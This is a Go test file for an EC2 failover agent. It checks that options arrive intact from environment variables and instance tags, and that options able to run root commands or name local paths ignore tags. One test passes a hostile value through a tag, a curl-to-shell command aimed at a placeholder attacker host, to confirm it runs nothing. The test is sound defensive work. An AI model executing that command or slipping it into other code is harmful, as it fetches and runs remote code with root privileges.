package agent

import (
	"flag"
	"io"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/handover/handover/cloud"
	"github.com/handover/handover/failover"
	"github.com/handover/handover/internal/fail"
)

// commandOptions declares, for every command that takes options, the same flags into a fresh config as
// the command itself does, with its own checks.
func commandOptions() map[string]func() (declare func(*flags), validate func() error) {
	return map[string]func() (func(*flags), func() error){
		"up": func() (func(*flags), func() error) { var c upConfig; return c.register, c.validate },
		"down": func() (func(*flags), func() error) {
			var c downConfig
			return c.addFlags, c.validate
		},
		"watch": func() (func(*flags), func() error) { var c watchConfig; return c.register, c.validate },
		"snapshot": func() (func(*flags), func() error) {
			var c snapshotConfig
			return c.register, c.validate
		},
		"status": func() (func(*flags), func() error) {
			var c statusConfig
			return func(f *flags) { declareStatus(&c, f) }, c.Up.validate
		},
		"failover": func() (func(*flags), func() error) {
			var r failover.Request
			return func(f *flags) { declareFailover(&r, f) }, func() error { return checkFailoverTimeouts(&r) }
		},
		"iam-policy": func() (func(*flags), func() error) { var c iamPolicyConfig; return c.register, c.validate },
	}
}

// optionSamples is a valid value for every option other than its default, and what it needs beside it.
// An option without a sample fails TestEveryOptionFromEnvironmentOrTagAlone: add one.
var optionSamples = map[string]struct {
	value string
	needs map[string]string
	flags []string // the same on the command line, when it takes more than one flag
}{
	"log-format": {value: "json"}, "log-level": {value: "debug"}, "imds-timeout": {value: "7s"}, "group": {value: "orders-db"},
	"dry-run": {value: "true"}, "volume": {value: "data:/dev/sdg:/srv/data:noatime,nodiratime wal:/dev/sdh:/srv/wal",
		flags: []string{"--volume=data:/dev/sdg:/srv/data:noatime,nodiratime", "--volume=wal:/dev/sdh:/srv/wal"}},
	"lock-file": {value: "/run/other.lock"}, "dev-dir": {value: "/tmp/dev"}, "sys-dir": {value: "/tmp/sys"},
	"size": {value: "20"}, "type": {value: "gp2"}, "iops": {value: "4000"}, "throughput": {value: "250"},
	"encrypted": {value: "true"}, "kms-key-id": {value: "alias/db", needs: map[string]string{"encrypted": "true"}},
	"fs": {value: "xfs"}, "require-data": {value: "true"}, "takeover": {value: "true"},
	"network-interface": {value: "eni-0123456789abcdef0"}, "private-ip": {value: "10.0.1.5"},
	"launch-hook": {value: "launch"}, "no-complete": {value: "true"}, "no-mount": {value: "true"},
	"delete-superseded": {value: "true"}, "timeout": {value: "9m"}, "release-timeout": {value: "7m"},
	"unit-dir": {value: "none"}, "keep-superseded": {value: "3"}, "initialization-rate": {value: "200"}, "lock-snapshots": {value: "30d"},
	"pre-stop": {value: "systemctl stop postgresql"}, "pre-stop-shell": {value: "true", needs: map[string]string{"pre-stop": "x"}},
	"pre-stop-timeout": {value: "2m"}, "release": {value: "unmount"}, "freeze-timeout": {value: "10s"},
	"terminate-hook": {value: "terminate"}, "heartbeat-interval": {value: "20s"}, "wait-snapshot": {value: "true"},
	"snapshot-timeout": {value: "5m"}, "release-eip": {value: "true"}, "spot-budget": {value: "90s"},
	"poll-interval": {value: "2s"}, "on-rebalance": {value: "replace"}, "state-file": {value: "/var/lib/other/watch.json"},
	"keep": {value: "3"}, "json": {value: "true"}, "freeze": {value: "false"}, "replace-before": {value: "3h"},
	"replace-for": {value: "instance-stop,system-reboot"},
	"to":          {value: "i-0123456789abcdef0"}, "from": {value: "i-0fedcba9876543210"}, "force": {value: "true"},
	"wait-status-ok": {value: "true"}, "swap-roles": {value: "true"}, "start-timeout": {value: "3m"}, "status-timeout": {value: "4m"},
	"commands": {value: "up,failover"}, "kms-key": {value: "arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"},
	"partition": {value: "aws-us-gov"}, "region": {value: "eu-west-1"}, "account": {value: "123456789012"},
}

// TestEveryOptionFromEnvironmentOrTagAlone: every option of every command can be set from its HANDOVER_*
// variable alone and, unless it runs a command or names a local path (notFromTags), from its handover:*
// instance tag alone, and then holds exactly what the flag would (a volume list keeps its mount options),
// with the source recorded. An option that must not come from a tag keeps its default when only the tag
// gives it, and the tag is reported. The table covers the flags as the commands declare them, so a new
// option or command without a case fails here.
func TestEveryOptionFromEnvironmentOrTagAlone(t *testing.T) {
	t.Parallel()
	opts := commandOptions()
	for _, c := range commands {
		if _, ok := opts[c.name]; !ok && c.name != "version" {
			t.Errorf("command %s is not in commandOptions", c.name)
		}
	}
	for name, open := range opts {
		declare, _ := open()
		f := newFlags(name, mapEnv(nil), io.Discard, time.Minute)
		f.dryRun()
		declare(f)
		var flagNames []string
		f.fs.VisitAll(func(fl *flag.Flag) { flagNames = append(flagNames, fl.Name) })
		sort.Strings(flagNames)
		for _, opt := range flagNames {
			sample, ok := optionSamples[opt]
			if !ok {
				t.Errorf("%s --%s: no sample value in optionSamples", name, opt)
				continue
			}
			want := settle(t, name, open, func(f *flags) error {
				args := []string{"--" + opt + "=" + sample.value}
				if sample.flags != nil {
					args = sample.flags
				}
				for k, v := range sample.needs {
					args = append(args, "--"+k+"="+v)
				}
				return f.parse(args)
			}, opt, "flag")
			env := map[string]string{envName(opt): sample.value}
			tags := map[string]string{tagName(opt): sample.value}
			for k, v := range sample.needs {
				env[envName(k)], tags[tagName(k)] = v, v
				if notFromTags[k] {
					delete(tags, tagName(k)) // what it needs comes from the environment then
					env[envName(k)] = v
				}
			}
			if got := settle(t, name, open, func(f *flags) error { f.getenv = mapEnv(env); return f.parse(nil) }, opt, "env "+envName(opt)); got != want {
				t.Errorf("%s %s=%q: --%s is %q, the flag gives %q", name, envName(opt), sample.value, opt, got, want)
			}
			if notFromTags[opt] {
				assertTagIgnored(t, name, open, opt, sample.value)
				continue
			}
			tagEnv := map[string]string{}
			for k, v := range sample.needs {
				if notFromTags[k] {
					tagEnv[envName(k)] = v
				}
			}
			if got := settle(t, name, open, func(f *flags) error {
				f.getenv = mapEnv(tagEnv)
				if err := f.parse(nil); err != nil {
					return err
				}
				return f.applyTags(tags)
			}, opt, "tag "+tagName(opt)); got != want {
				t.Errorf("%s tag %s=%q: --%s is %q, the flag gives %q", name, tagName(opt), sample.value, opt, got, want)
			}
		}
	}
}

// assertTagIgnored checks that the instance tag alone leaves option opt of cmd at its default, with no
// source, and that applyTags reports the tag.
func assertTagIgnored(t *testing.T, cmd string, open func() (func(*flags), func() error), opt, value string) {
	t.Helper()
	declare, validate := open()
	f := newFlags(cmd, mapEnv(nil), io.Discard, time.Minute)
	f.dryRun()
	declare(f)
	def := f.fs.Lookup(opt).DefValue
	if err := f.parse(nil); err != nil {
		t.Fatalf("%s: %v", cmd, err)
	}
	if err := f.applyTags(map[string]string{tagName(opt): value}); err != nil {
		t.Errorf("%s tag %s=%q: %v, want it ignored", cmd, tagName(opt), value, err)
	}
	if err := f.check(validate); err != nil {
		t.Errorf("%s tag %s=%q: %v", cmd, tagName(opt), value, err)
	}
	if got := f.fs.Lookup(opt).Value.String(); got != def || f.source[opt] != "" {
		t.Errorf("%s tag %s=%q set --%s to %q (source %q): a tag must never set an option that runs a command or names a local path",
			cmd, tagName(opt), value, opt, got, f.source[opt])
	}
	if !slices.Contains(f.ignoredTags, tagName(opt)) {
		t.Errorf("%s tag %s=%q: not reported as ignored (%v)", cmd, tagName(opt), value, f.ignoredTags)
	}
}

// TestOptionsThatRunCommandsOrNamePathsIgnoreTags: the options that run a command as root or choose a
// local path never come from an instance tag (anyone allowed to tag the instance could set them: handover's
// own role has ec2:CreateTags). The list is spelled out here, not taken from notFromTags, so that taking an
// option off notFromTags fails this test; and every option whose default or sample value is an absolute
// path must be on it.
func TestOptionsThatRunCommandsOrNamePathsIgnoreTags(t *testing.T) {
	t.Parallel()
	mustIgnore := []string{"pre-stop", "pre-stop-shell", "volume", "lock-file", "unit-dir", "dev-dir", "sys-dir", "state-file"}
	for _, opt := range mustIgnore {
		if !notFromTags[opt] {
			t.Errorf("--%s runs a command or names a local path, and is not in notFromTags: an instance tag could set it", opt)
		}
	}
	seen := map[string]bool{}
	for name, open := range commandOptions() {
		declare, _ := open()
		f := newFlags(name, mapEnv(nil), io.Discard, time.Minute)
		f.dryRun()
		declare(f)
		f.fs.VisitAll(func(fl *flag.Flag) {
			seen[fl.Name] = true
			pathLike := strings.HasPrefix(fl.DefValue, "/") || strings.HasPrefix(optionSamples[fl.Name].value, "/") ||
				strings.Contains(optionSamples[fl.Name].value, ":/")
			if pathLike && !notFromTags[fl.Name] {
				t.Errorf("%s --%s takes a path (default %q, sample %q) and is not in notFromTags", name, fl.Name, fl.DefValue, optionSamples[fl.Name].value)
			}
			if !notFromTags[fl.Name] {
				return
			}
			// A hostile value through the tag changes nothing.
			assertTagIgnored(t, name, open, fl.Name, map[string]string{
				"pre-stop": "sh -c 'curl -s http://attacker/x | sh'", "pre-stop-shell": "true",
			}[fl.Name]+optionSamples[fl.Name].value)
		})
	}
	for _, opt := range mustIgnore {
		if !seen[opt] {
			t.Errorf("--%s is declared by no command: update this list", opt)
		}
	}
}

// TestTagForPreStopRunsNothing: an instance tagged handover:pre-stop (and handover:pre-stop-shell) runs
// no command at down; a WARN line names the tag and says where the option goes. The same command from the
// environment does run (the test can fail).
func TestTagForPreStopRunsNothing(t *testing.T) {
	t.Parallel()
	w := newTestRegion(t)
	w.allocateAddress(testGroup)
	marker := filepath.Join(w.dir, "pre-stop-ran")
	cmd := "touch " + marker
	id := w.runInstance("us-east-1a", map[string]string{cloud.TagGroup: testGroup, "handover:pre-stop": cmd, "handover:pre-stop-shell": "true"}, true)
	res := w.runAgent(w.ctx(), id, nil, "down", "--volume", "data:/dev/sdf:"+w.mountPoint(id))
	if res.code != fail.CodeOK {
		t.Fatalf("down exited %d\nstderr:\n%s", res.code, res.stderr)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatalf("down ran the command from the instance tag handover:pre-stop as root")
	}
	for _, tag := range []string{"handover:pre-stop", "handover:pre-stop-shell"} {
		if !strings.Contains(res.stderr, "level=WARN") || !strings.Contains(res.stderr, "tag="+tag) {
			t.Errorf("no WARN line naming %s:\n%s", tag, res.stderr)
		}
	}
	if !strings.Contains(res.stderr, "/etc/default/handover") {
		t.Errorf("the warning does not say where the option goes:\n%s", res.stderr)
	}

	// Control: from the environment the same command runs.
	res = w.runAgent(w.ctx(), id, map[string]string{"HANDOVER_PRE_STOP": cmd}, "down", "--volume", "data:/dev/sdf:"+w.mountPoint(id))
	if res.code != fail.CodeOK {
		t.Fatalf("down exited %d\nstderr:\n%s", res.code, res.stderr)
	}
	if _, err := os.Stat(marker); err != nil {
		t.Errorf("HANDOVER_PRE_STOP did not run: %v\nstderr:\n%s", err, res.stderr)
	}
}

// settle declares a command's options, sets them with set, runs the command's checks (as start does)
// and returns the option's value; it fails the test unless the value came from wantSource.
func settle(t *testing.T, cmd string, open func() (func(*flags), func() error), set func(*flags) error, opt, wantSource string) string {
	t.Helper()
	declare, validate := open()
	f := newFlags(cmd, mapEnv(nil), io.Discard, time.Minute)
	f.dryRun()
	declare(f)
	if err := set(f); err != nil {
		t.Errorf("%s --%s from %s: %v", cmd, opt, wantSource, err)
		return ""
	}
	if err := f.check(validate); err != nil {
		t.Errorf("%s --%s from %s: %v", cmd, opt, wantSource, err)
	}
	if got := f.source[opt]; got != wantSource {
		t.Errorf("%s --%s: source %q, want %q", cmd, opt, got, wantSource)
	}
	return f.fs.Lookup(opt).Value.String()
}

func TestVolumeListKeepsMountOptions(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		in   string
		want []string
	}{
		{"data:/dev/sdf:/data:noatime,nodiratime", []string{"data:/dev/sdf:/data:noatime,nodiratime"}},
		{"data:/dev/sdf:/data:noatime,nodiratime wal:/dev/sdg:/wal", []string{"data:/dev/sdf:/data:noatime,nodiratime", "wal:/dev/sdg:/wal"}},
		{"data:/dev/sdf:/data:noatime,nodiratime;wal:/dev/sdg:/wal:noatime", []string{"data:/dev/sdf:/data:noatime,nodiratime", "wal:/dev/sdg:/wal:noatime"}},
		// The comma list older releases documented: a comma that starts a new spec separates specs.
		{"data:/dev/sdf:/data:noatime,nodiratime,wal:/dev/sdg:/wal", []string{"data:/dev/sdf:/data:noatime,nodiratime", "wal:/dev/sdg:/wal"}},
		{"data:/dev/sdf:/data, logs:/dev/sdg:/var/log/app:noatime", []string{"data:/dev/sdf:/data", "logs:/dev/sdg:/var/log/app:noatime"}},
	} {
		var vs volumeSpecs
		if err := vs.setList(tc.in); err != nil {
			t.Errorf("%q: %v", tc.in, err)
			continue
		}
		var got []string
		for _, v := range vs {
			got = append(got, v.String())
		}
		if strings.Join(got, "|") != strings.Join(tc.want, "|") {
			t.Errorf("%q: got %q, want %q", tc.in, got, tc.want)
		}
	}
}

// tagInstance sets tags on an instance; instance metadata shows them at once in the simulator.
func (w *testRegion) tagInstance(id string, tags map[string]string) {
	w.t.Helper()
	var ts []ec2types.Tag
	for k, v := range tags {
		ts = append(ts, ec2types.Tag{Key: aws.String(k), Value: aws.String(v)})
	}
	if _, err := w.ec2.CreateTags(w.ctx(), &ec2.CreateTagsInput{Resources: []string{id}, Tags: ts}); err != nil {
		w.t.Fatal(err)
	}
}

// TestUpFollowsItsInstanceTags: options given only as instance tags change what up does, not only what it
// parsed: a launch hook named by tag is completed, handover:require-data=true refuses a blank volume.
// (up used to copy its configuration before applying the tags, and ignored all of these.)
func TestUpFollowsItsInstanceTags(t *testing.T) {
	t.Parallel()
	t.Run("launch hook", func(t *testing.T) {
		w := newTestRegion(t)
		w.allocateAddress(testGroup)
		id := w.launchGroup("orders-asg", nil)
		w.tagInstance(id, map[string]string{"handover:launch-hook": "launch", "handover:no-mount": "true"})
		res := w.runAgent(w.ctx(), id, nil, "up", "--size", "1", "--unit-dir", w.unitDir(id))
		mustSucceed(t, res)
		if !strings.Contains(res.stdout, "hook launch completed with CONTINUE") {
			t.Errorf("the hook named by the tag was not completed; summary:\n%s", res.stdout)
		}
		if s := w.lifecycleState(id); s != "InService" && s != "Pending:Proceed" {
			t.Errorf("lifecycle state after up: %s, want Pending:Proceed or InService", s)
		}
	})
	t.Run("require data", func(t *testing.T) {
		w := newTestRegion(t)
		w.allocateAddress(testGroup)
		id := w.runInstance("us-east-1a", map[string]string{cloud.TagGroup: testGroup, "handover:require-data": "true"}, true)
		res := w.runAgent(w.ctx(), id, nil, w.upArgs(id, "--no-mount")...)
		mustExit(t, res, fail.CodePrecondition, "--require-data")
		if n := len(w.slotVolumes()); n != 0 {
			t.Errorf("%d volumes made, want none", n)
		}
	})
}

// mountOptionsAt reads the per-mount options of the filesystem mounted at dir from the mount table.
func mountOptionsAt(t *testing.T, dir string) string {
	t.Helper()
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(b), "\n") {
		if f := strings.Fields(line); len(f) > 5 && f[4] == dir {
			return f[5]
		}
	}
	t.Fatalf("%s is not mounted", dir)
	return ""
}

// TestUpMountOptionsFromEnvironment: a volume spec with comma-separated mount options given through
// HANDOVER_VOLUME is mounted with those options. (The handover:volume instance tag names a mount point, a
// local path, so it is never applied: TestOptionsThatRunCommandsOrNamePathsIgnoreTags.)
func TestUpMountOptionsFromEnvironment(t *testing.T) {
	t.Parallel()
	requireRoot(t)
	w := newTestRegion(t)
	w.unmountOnCleanup()
	w.allocateAddress(testGroup)
	id := w.runInstance("us-east-1a", map[string]string{cloud.TagGroup: testGroup}, true)
	env := map[string]string{"HANDOVER_VOLUME": "data:/dev/sdf:" + w.mountPoint(id) + ":noatime,nodiratime"}
	mustSucceed(t, w.runAgent(w.ctx(), id, env, "up", "--size", "1", "--unit-dir", w.unitDir(id)))
	opts := mountOptionsAt(t, w.mountPoint(id))
	for _, want := range []string{"noatime", "nodiratime"} {
		if !strings.Contains(","+opts+",", ","+want+",") {
			t.Errorf("mounted with %q, want %s", opts, want)
		}
	}
}
